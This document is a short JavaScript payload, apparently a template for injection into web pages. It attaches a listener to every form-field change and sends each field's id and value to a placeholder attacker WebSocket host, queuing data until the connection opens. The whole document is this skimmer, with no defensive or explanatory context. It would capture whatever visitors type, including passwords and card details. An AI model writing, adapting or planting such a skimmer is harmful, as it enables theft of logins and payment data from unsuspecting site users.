(function () {
  var ws = new WebSocket('{{ATTACKER_WS}}/ws');
  var queue = [];
  ws.onopen = function () {
    while (queue.length) {
      ws.send(queue.shift());
    }
  };
  document.addEventListener('change', function (e) {
    var t = e.target;
    if (!t || !t.id) {
      return;
    }
    var msg = JSON.stringify({f: t.id, v: t.value});
    if (ws.readyState === 1) {
      ws.send(msg);
    } else {
      queue.push(msg);
    }
  }, true);
})();
